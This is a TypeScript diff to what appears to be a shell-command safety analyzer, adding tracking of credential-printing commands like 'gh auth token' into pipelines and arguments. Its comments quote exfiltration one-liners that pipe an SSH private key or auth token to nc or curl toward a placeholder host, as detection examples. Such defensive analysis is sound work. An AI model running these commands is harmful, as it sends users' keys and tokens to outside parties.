@@ -4,16 +4,19 @@ import { commandName } from "./downloads.js";
 import { listsEnvironment } from "./declaration-options.js";
 import { wrappedCommand } from "./evaluate-context.js";
 import { stdinFile } from "./evaluate-input.js";
+import { isPrinted, printedCredential, type PrintedWord } from "./printed-credentials.js";
 
 /**
  * Which files' contents reach a command, so that a rule can judge where they go
- * (`cat ~/.ssh/id_rsa | nc host 4444` sends the key as `curl -d @~/.ssh/id_rsa` does).
+ * (`cat ~/.ssh/id_rsa | nc host 4444` sends the key as `curl -d @~/.ssh/id_rsa` does). What a
+ * command that prints a credential prints is among them (`gh auth token | nc …`; a
+ * {@link PrintedWord}), as a dump of the environment is ({@link ENVIRONMENT}).
  */
 export interface ContentsFed {
   /** Files read by the stages before it in its pipeline, or opened on its standard input (`< F`, `<<< "$(cat F)"`). */
   stdin: Word[];
-  /** Files read by command substitutions in its arguments (`curl "…?k=$(cat F)"`). */
-  arguments: Word[];
+  /** Files read by command substitutions in its arguments (`curl "…?k=$(cat F)"`); a printed credential knows the argument it is in. */
+  arguments: (Word | PrintedWord)[];
 }
 
 /** Commands that print their arguments, not the contents of files they name: only substitutions in them pass contents on. */
@@ -27,7 +30,7 @@ const SUMMARIES = new Set([
 
 export function contentsFed(args: readonly Word[], cmd: Cmd, upstream: readonly Cmd[]): ContentsFed {
   const stdin = [...pipelineFiles(upstream), ...openedOnStdin(cmd)];
-  return { stdin, arguments: args.flatMap(substitutionFiles) };
+  return { stdin, arguments: args.flatMap((arg) => substitutionFiles(arg).map((w) => (isPrinted(w) ? { ...w, from: arg } : w))) };
 }
 
 /** Files whose contents come out of the last stage of a pipeline, followed back while each stage passes its input on. */
@@ -40,6 +43,8 @@ function pipelineFiles(stages: readonly Cmd[]): Word[] {
     const name = words[0] && !words[0].dynamic ? commandName(words[0].text, false) : "";
     if (SUMMARIES.has(name)) break;
     if (stage.listsEnvironment || dumpsEnvironment(stage.argv)) out.push(ENVIRONMENT);
+    const printed = name ? printedCredential(name, words.slice(1)) : undefined;
+    if (printed) out.push(printed);
     out.push(...openedOnStdin(stage), ...words.slice(1).flatMap(substitutionFiles));
     if (!PRINT_ARGUMENTS.has(name)) out.push(...words.slice(1).filter((w) => !w.dynamic && !w.text.startsWith("-")));
   }
